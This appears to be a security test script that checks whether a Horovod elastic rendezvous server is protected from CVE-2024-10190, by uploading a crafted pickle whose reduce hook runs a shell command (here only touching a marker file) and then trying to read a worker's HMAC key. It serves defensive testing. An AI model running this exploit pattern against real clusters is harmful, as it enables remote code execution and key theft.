"""Run on an emulated node that is not part of the job: PUT a crafted pickle to the job's
elastic rendezvous server (CVE-2024-10190: unpatched Horovod unpickles it and runs its code), then
try to read a worker's registration (which holds its HMAC key). Prints one JSON line:
``{"put_status": ..., "get_status": ...}`` (HTTP status codes, or the error's text).

    python tests/security/rendezvous_attacker.py JOB_JSON MARKER_PATH
"""
import base64
import json
import pickle
import sys
import urllib.error
import urllib.request

job = json.loads(open(sys.argv[1]).read())
marker = sys.argv[2]


class RunsCode:
    def __reduce__(self):
        import os
        return (os.system, (f"touch {marker}",))


def status(request) -> object:
    try:
        return urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        return error.code
    except Exception as error:  # noqa: BLE001 - reported, judged by the stage
        return f"{type(error).__name__}: {error}"


base = f"http://{job['addr']}:{job['port']}/worker_addresses"
put = urllib.request.Request(f"{base}/attacker:0", method="PUT",
                             data=base64.b64encode(pickle.dumps(RunsCode())))
get = urllib.request.Request(f"{base}/{job['key']}", method="GET")
print(json.dumps({"put_status": status(put), "get_status": status(get)}), flush=True)
